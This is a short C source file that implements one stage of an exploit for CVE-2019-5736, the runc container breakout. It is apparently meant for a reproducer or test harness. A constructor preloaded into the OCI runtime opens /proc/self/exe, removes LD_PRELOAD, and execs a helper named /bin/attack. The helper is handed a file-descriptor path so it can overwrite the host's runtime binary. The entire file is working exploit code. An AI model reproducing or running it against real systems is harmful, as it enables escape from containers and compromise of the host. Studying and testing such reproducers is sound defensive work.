/* Loaded into the OCI runtime itself, which an image starts by having /proc/self/exe as its shell
 * (CVE-2019-5736): keeps the runtime's file open, becomes another program, so that nobody runs that
 * file any more, and asks to write to it. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void overwrite(void) {
    char path[64];
    int program = open("/proc/self/exe", O_RDONLY);
    if (program < 0) return;
    printf("attack overwrite: inside the runtime\n");
    fflush(stdout);
    unsetenv("LD_PRELOAD");
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    execl("/bin/attack", "attack", "write", path, (char *)NULL);
}
